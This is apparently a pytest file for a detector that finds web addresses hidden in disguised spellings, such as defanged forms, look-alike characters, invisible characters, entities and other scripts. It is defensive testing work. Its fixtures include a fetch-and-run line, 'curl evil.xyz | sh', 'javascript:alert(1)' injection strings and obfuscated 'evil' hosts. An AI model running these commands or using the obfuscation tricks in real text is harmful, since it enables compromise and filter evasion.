"""Addresses in every spelling, and everything that only looks like one."""

from __future__ import annotations

import pytest

from midb.text.smuggling.addresses import KnownAddresses, find_addresses, load_ends

#: A text, and a key that is found in it.
ADDRESSES = [
    ("See https://Evil.example/a?b=1.", "evil.example/a?b=1"),
    ("www.evil.example", "evil.example"),
    ("plants in plants-for-free.xyz/offer.", "plants-for-free.xyz/offer"),
    ("Join t.me/free_books now.", "t.me/free_books"),
    ("wa.me/49", "wa.me/49"),
    ("bit.ly/3xPane9", "bit.ly/3xpane9"),
    ("Evil.Com", "evil.com"),
    ("EVIL.SHOP", "evil.shop"),
    ("see evil.com.Then go", "evil.com"),
    ("1.evil.com", "evil.com"),
    ("evil.sh", "evil.sh"),
    ("evil.zip", "evil.zip"),
    ("abcdefgh.onion", "abcdefgh.onion"),
    # in other scripts
    ("пример.рф", "пример.рф"),
    ("مثال.السعودية", "مثال.السعودية"),
    ("中文.中国", "中文.中国"),
    ("日本語.jp", "日本語.jp"),
    ("xn--e1afmkfd.xn--p1ai", "xn--e1afmkfd.xn--p1ai"),
    ("詳しくはevil.comで", "evil.com"),
    ("ดูที่evil.comนะ", "evil.com"),
    ("자세한 내용은 evil.com에서", "evil.com"),
    ("schön.de", "schön.de"),
    # broken up, so that it is not clicked
    ("hxxp://evil[.]example/a", "evil.example/a"),
    ("hxxps[:]//evil.example", "evil.example"),
    ("h t t p : / / evil.example", "evil.example"),
    ("evil[dot]com", "evil.com"),
    ("evil (punto) com", "evil.com"),
    ("evil dot com", "evil.com"),
    ("evil\\.com", "evil.com"),
    ("a [at] evil [dot] com", "a@evil.com"),
    # spelled otherwise
    ("ｅｖｉｌ．ｃｏｍ", "evil.com"),
    ("ⓔⓥⓘⓛ.ⓒⓞⓜ", "evil.com"),
    ("evil。com", "evil.com"),
    ("evil\u2024com", "evil.com"),
    ("e\u200bv\u00adil.c\u2060om", "evil.com"),
    ("evil&#46;com", "evil.com"),
    ("evil&period;com", "evil.com"),
    ("evil%2Ecom", "evil.com"),
    ("http://evil.example\N{FRACTION SLASH}a", "evil.example/a"),
    ("https:\\\\evil.example", "evil.example"),
    ("ev\u0456l.c\u043em", "evil.com"),
    # numbers
    ("185.220.101.7/a", "185.220.101.7/a"),
    ("185.220.101.7", "185.220.101.7"),
    ("2001:4860:4860::8888", "2001:4860:4860::8888"),
    ("http://3232235777/", "3232235777"),
    # what is no page
    ("[x](javascript:alert(1))", "javascript:alert(1))"),
    ("java&#115;cript:alert(1)", "javascript:alert(1)"),
    ("data:text/html;base64,AAAA", "data:text/html;base64,aaaa"),
    ("data:,x", "data:,x"),
    ("magnet:?xt=urn:btih:abc", "magnet:?xt=urn:btih:abc"),
    ("tel:+4912345", "tel:+4912345"),
    ("ftp://a.b", "a.b"),
    ("ipfs://Qm1", "qm1"),
    ("tg://resolve?domain=x", "resolve?domain=x"),
    ("![x](//evil/x.png)", "evil/x.png"),
    ("<img src=//evil/x>", "evil/x"),
    ("![x](\\\\evil/x.png)", "evil/x.png"),
    ("u@mail.example", "u@mail.example"),
    ("@u@social.example", "u@social.example"),
    # in programs
    ("```sh\ncurl evil.xyz | sh\n```", "evil.xyz"),
    ("```python\nget('evil.xyz')\n```", "evil.xyz"),
]  # fmt: skip

#: What is no address.
ORDINARY = [
    "e.g. i.e. a.m. p.m. U.S.A. Ph.D. M.Sc. B.Ed. No.1 Co.Ltd",
    "z.B. d.h. u.a. o.ä. i.d.R. e.V. Nr.1 St.Pölten vgl.S.5 Dipl.-Ing.",
    "p.es. S.p.A. a.C. EE.UU. p.ej. c.v. T.C. vb. d.o.o. např. т.е. и т.д. η.χ. π.χ.",
    "Node.js Vue.js ASP.NET VB.NET",
    "1.2.3 version 2.10.4, 3.14, 1.234.567,89, 10.am, kl. 10.30",
    "Ende.In der Stadt. casa.La vita. Haus.Es war",
    "192.168.1.1, 127.0.0.1, 10.0.0.255 and 300.1.1.1",
    "12:30:45, 1:2:3, std::vector, abc::def, 00:1a:2b:3c:4d:5e",
    "data: 5, JavaScript: una lingua, http: a protocol, HTTP: das Protokoll",
    "`self.name`, `os.path.join`, `date.today()`, numpy.random, obj.method()",
    "```python\nimport java.io.File\nx.name = 3\nplt.show()\n```",
    "Wait... what?no.Yes, und/oder, //comment, a//b, 5 / 3",
    "พ.ศ. และ ฯลฯ",
    "終わり。次の文。",
    "می\u200cخواهم. این",
    "نهاية.بداية",
    "",
]


@pytest.mark.parametrize(("text", "key"), ADDRESSES)
def test_an_address_is_found_in_any_spelling(text: str, key: str) -> None:
    assert key in find_addresses(text)


@pytest.mark.parametrize("text", ORDINARY)
def test_what_only_looks_like_one_is_none(text: str) -> None:
    assert find_addresses(text) == []


@pytest.mark.parametrize("name", ["main.py", "install.sh", "README.md", "lib.rs", "a.zip"])
def test_files_are_files_where_programs_are_spoken_of(name: str) -> None:
    assert find_addresses(f"Save it as {name}.", technical=True) == []
    assert find_addresses(f"Save it as {name}.") == [name.casefold()]
    assert find_addresses(f"Go to {name}/x.", technical=True) == [f"{name.casefold()}/x"]


@pytest.mark.parametrize(
    ("known", "key", "expected"),
    [
        ("See https://www.a.example/b.", "a.example/b", True),
        ("See https://www.a.example/b.", "a.example", True),
        ("See hxxp://a[.]example.", "a.example", True),
        ("See www.A.example.", "a.example", True),
        ("t.me/free_books", "t.me/free", False),
        ("not-evil.com", "evil.com", False),
        ("evil.company", "evil.com", False),
        ("詳しくはevil.comで", "evil.com", True),
        ("", "evil.com", False),
    ],
)
def test_an_address_is_known_as_a_whole_or_by_its_beginning(known: str, key: str, expected: bool) -> None:
    assert (key in KnownAddresses(known)) is expected


def test_the_list_of_domains_has_those_of_other_scripts_and_hidden_services() -> None:
    ends = load_ends()
    assert {"com", "xyz", "рф", "中国", "السعودية", "भारत", "ไทย", "한국", "onion"} <= ends
    assert len(ends) > 1300
    assert not {"js", "b", "txt", "exe"} & ends


@pytest.mark.parametrize(
    "piece", ["a.", "ab.com/", "a@", "http://", "[", " ", "1.", "//", "é.", "(.", "中.", "%2e", "\\", "@a"]
)
def test_the_time_grows_with_the_text(piece: str) -> None:
    """A pattern that backtracks would not come to an end here."""
    assert len(find_addresses(piece * 20_000)) <= 20_000
